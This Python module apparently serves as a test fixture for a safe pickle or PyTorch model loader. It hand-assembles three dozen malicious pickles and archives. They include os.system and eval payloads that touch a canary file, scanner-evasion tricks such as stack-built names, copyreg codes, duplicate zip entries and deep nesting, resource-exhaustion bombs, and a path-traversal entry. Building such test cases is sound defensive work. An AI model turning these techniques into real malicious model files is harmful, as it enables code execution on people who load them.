"""Pickles that would do harm, written instruction by instruction; each would make a canary file.

Nothing here is ever loaded by Python's own unpickler but in the one test that shows that the
simplest of them does what it says.
"""

from __future__ import annotations

import io
import pickle  # noqa: TID251
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple


class Malice(NamedTuple):
    """A kind of attack: what it is called, and how its file is made."""

    title: str
    make: Callable[[Path], bytes]


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def blob(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def name(module: str, attribute: str) -> bytes:
    return b"c" + f"{module}\n{attribute}\n".encode()


def call(module: str, attribute: str, *arguments: bytes) -> bytes:
    return name(module, attribute) + b"(" + b"".join(arguments) + b"tR"


def whole(body: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def touch(canary: Path) -> bytes:
    return text(f"touch {canary}")


def write(canary: Path) -> bytes:
    return text(f"open({str(canary)!r}, 'w').close()")


def as_torch_zip(data: bytes, **extra: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("archive/data.pkl", data)
        archive.writestr("archive/version", b"3\n")
        for entry, content in extra.items():
            archive.writestr(entry, content)
    return out.getvalue()


def _system(canary: Path) -> bytes:
    return whole(call("os", "system", touch(canary)))


def _posix(canary: Path) -> bytes:
    return as_torch_zip(whole(call("posix", "system", touch(canary))))


def _eval(canary: Path) -> bytes:
    return whole(call("builtins", "eval", write(canary)))


def _exec(canary: Path) -> bytes:
    return whole(call("__builtin__", "exec", write(canary)))


def _subprocess(canary: Path) -> bytes:
    return whole(call("subprocess", "Popen", b"(" + text("touch") + text(str(canary)) + b"t"))


def _nested_reduce(canary: Path) -> bytes:
    """collections.OrderedDict([(1, os.system(…))]): honest outside."""
    inner = b"(K\x01" + call("os", "system", touch(canary)) + b"t"
    return whole(name("collections", "OrderedDict") + b"(](" + inner + b"etR")


def _getattr(canary: Path) -> bytes:
    module = call("importlib", "import_module", text("os"))
    function = call("builtins", "getattr", module, text("system"))
    return whole(function + b"(" + touch(canary) + b"tR")


def _stack_global(canary: Path) -> bytes:
    """The name is put together on the stack, with a dot in it."""
    named = text("os") + b"\x94" + text("path.os.system") + b"\x94\x93"
    return whole(named + b"(" + touch(canary) + b"tR", 4)


def _copyreg(canary: Path) -> bytes:
    registered = call("copyreg", "add_extension", text("os"), text("system"), b"K\x07")
    return whole(registered + b"0\x82\x07(" + touch(canary) + b"tR")


def _inside(canary: Path) -> bytes:
    return whole(call("pickle", "loads", blob(_system(canary))))


def _torch_load(canary: Path) -> bytes:
    wrapped = call("io", "BytesIO", blob(_system(canary)))
    return whole(call("torch", "load", wrapped))


def _storage_bytes(canary: Path) -> bytes:
    return whole(call("torch.storage", "_load_from_bytes", blob(_system(canary))))


def _hub(canary: Path) -> bytes:
    return whole(call("torch.hub", "load", text("someone/" + canary.name), text("model")))


def _setstate(canary: Path) -> bytes:
    """A state that BUILD hands to `functools.partial.__setstate__`, which then is called."""
    made = call("functools", "partial", name("os", "system"))
    state = b"(" + name("os", "system") + b"(" + touch(canary) + b"t}Nt"
    return whole(made + state + b"b(tR")


def _build_attributes(canary: Path) -> bytes:
    """Sets attributes on an admitted name, then calls it."""
    state = b"N}" + text("__new__") + name("os", "system") + b"s\x86"
    return whole(name("torch", "Size") + state + b"b(" + touch(canary) + b"tR")


def _inst(canary: Path) -> bytes:
    return b"(S'touch " + str(canary).encode() + b"'\nios\nsystem\n."


def _persistent(canary: Path) -> bytes:
    """Hides the call in what names a storage."""
    pid = b"(" + text("storage") + call("os", "system", touch(canary)) + text("0") + text("cpu")
    return as_torch_zip(whole(pid + b"K\x04tQ"))


def _after_stop(canary: Path) -> bytes:
    """Of the older format: honest at first, the harm in the fifth pickle."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    return (
        magic + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + pickle.dumps({}, 2) + _system(canary)
    )


def _hidden_in_zip(canary: Path) -> bytes:
    """Two entries of one name: one to be looked at, one to be loaded."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("archive/data.pkl", whole(b"}"))
        archive.writestr("brchive/data.pkl", _system(canary))
    return out.getvalue().replace(b"brchive", b"archive")


def _torchscript(canary: Path) -> bytes:
    code = f"import os; os.system('touch {canary}')".encode()
    return as_torch_zip(whole(b"}"), **{"archive/code/__torch__.py": code})


def _memory_bomb(_: Path) -> bytes:
    return whole(call("builtins", "bytearray", b"\x8a\x06" + (1 << 40).to_bytes(6, "little")))


def _memo_bomb(_: Path) -> bytes:
    """One byte kept at place 2³¹ - 1: the unpickler would make room for all before it."""
    return whole(b"Nr" + struct.pack("<I", 2**31 - 1))


def _huge_frame(_: Path) -> bytes:
    return b"\x80\x04\x95" + struct.pack("<Q", 2**60) + b"N."


def _huge_text(_: Path) -> bytes:
    return b"\x80\x04\x8e" + struct.pack("<Q", 2**40) + b"N."


def _laughs(_: Path) -> bytes:
    """Forty lists, each holding the one before ten times."""
    body = b"]" + b"q\x00"
    for level in range(40):
        body += b"](" + b"h" + bytes([level]) + (b"h" + bytes([level])) * 9
        body += b"eq" + bytes([level + 1])
    return whole(body)


def _hash_laughs(_: Path) -> bytes:
    """A key whose hash takes 2⁶⁰ steps."""
    body = b"}(K\x01q\x00"
    for level in range(60):
        body += b"h" + bytes([level]) + b"\x86q" + bytes([level + 1])
        body = body[: -len(b"h" + bytes([level]) + b"\x86q" + bytes([level + 1]))]
        body += b"0h" + bytes([level]) + b"h" + bytes([level]) + b"\x86q" + bytes([level + 1])
    return whole(body + b"Nu")


def _zip_bomb(_: Path) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", b"\0" * (32 << 20))
    return out.getvalue()


def _escape(_: Path) -> bytes:
    return as_torch_zip(whole(b"}"), **{"archive/data/../../../../tmp/evil": b"x"})


def _with_tensor(place: bytes, shape: bytes, step: bytes) -> bytes:
    """An archive with one tensor on a storage of four bytes."""
    storage = text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu")
    view = b"(" + storage + b"K\x01tQ" + place + b"(" + shape + b"t(" + step + b"t\x89Nt"
    tensor = name("torch._utils", "_rebuild_tensor_v2") + b"(" + view + b"R"
    data = whole(b"}" + text("w") + tensor + b"s")
    return as_torch_zip(data, **{"archive/data/0": b"\0\0\0\0"})


def _expanding(_: Path) -> bytes:
    """Four bytes that are said to be 2⁴⁴ numbers (a step of zero)."""
    return _with_tensor(b"K\x00", b"\x8a\x06" + (1 << 44).to_bytes(6, "little"), b"K\x00")


def _reaching(_: Path) -> bytes:
    """A tensor that begins beyond its storage."""
    return _with_tensor(b"K\x64", b"K\x04", b"K\x01")


def _deep(_: Path) -> bytes:
    return whole(b"(" * 100_000 + b"t" * 100_000)


def _underflow(_: Path) -> bytes:
    return whole(b"RRRR")


def _archive_in_archive(canary: Path) -> bytes:
    """Three of PyTorch's archives in one another, the command in the innermost."""
    data = as_torch_zip(_system(canary))
    for _ in range(2):
        handed = call("io", "BytesIO", blob(data))
        data = as_torch_zip(whole(call("torch", "load", handed)))
    return data


def _thirty_deep(canary: Path) -> bytes:
    data = _system(canary)
    for _ in range(30):
        data = whole(call("collections", "OrderedDict", blob(data)))
    return data


def _side_by_side(canary: Path) -> bytes:
    """Five thousand pickles of a thousand instructions each, harm in the first."""
    idle = b"N0" * 500 + b"N"
    inner = [_system(canary), *(whole(idle + text(str(at))) for at in range(5000))]
    body = b"".join(call("builtins", "bytes", blob(each)) for each in inner)
    return whole(b"](" + body + b"e")


def _many_members(canary: Path) -> bytes:
    """Twenty thousand pickles in an archive, of which one is the right one."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("archive/data.pkl", _system(canary))
        for at in range(20_000):
            archive.writestr(f"archive/data/{at}.pkl", b"N.")
    return out.getvalue()


MALICE: tuple[Malice, ...] = (
    Malice("A system command", _system),
    Malice("The same by its inner name, in PyTorch's archive", _posix),
    Malice("Python code to be evaluated", _eval),
    Malice("Python code to be executed", _exec),
    Malice("A program started", _subprocess),
    Malice("A command inside an honest dictionary", _nested_reduce),
    Malice("A module imported, a function taken from it by name", _getattr),
    Malice("A name put together on the stack", _stack_global),
    Malice("A number registered for a name", _copyreg),
    Malice("An instance of a command", _inst),
    Malice("A pickle in a pickle", _inside),
    Malice("A pickle handed to PyTorch's loader", _torch_load),
    Malice("A pickle handed to a storage", _storage_bytes),
    Malice("Code from a repository", _hub),
    Malice("A state that turns into a call", _setstate),
    Malice("Attributes set on an admitted name", _build_attributes),
    Malice("A call hidden in a storage's name", _persistent),
    Malice("Harm in the last of five pickles", _after_stop),
    Malice("Two entries of one name in the archive", _hidden_in_zip),
    Malice("A TorchScript program", _torchscript),
    Malice("A terabyte asked for", _memory_bomb),
    Malice("A memo index of two billion", _memo_bomb),
    Malice("A frame of 2⁶⁰ bytes", _huge_frame),
    Malice("A text of 2⁴⁰ bytes", _huge_text),
    Malice("Lists of lists of lists", _laughs),
    Malice("A key that takes for ever to hash", _hash_laughs),
    Malice("An archive that unpacks to far more", _zip_bomb),
    Malice("A name that leads out of the archive", _escape),
    Malice("Four bytes said to be a huge tensor", _expanding),
    Malice("A tensor beyond its data", _reaching),
    Malice("A hundred thousand tuples in one another", _deep),
    Malice("Instructions that take what isn't there", _underflow),
    Malice("An archive in an archive in an archive", _archive_in_archive),
    Malice("A command under thirty harmless pickles", _thirty_deep),
    Malice("A command beside five thousand pickles", _side_by_side),
    Malice("An archive of twenty thousand pickles", _many_members),
)
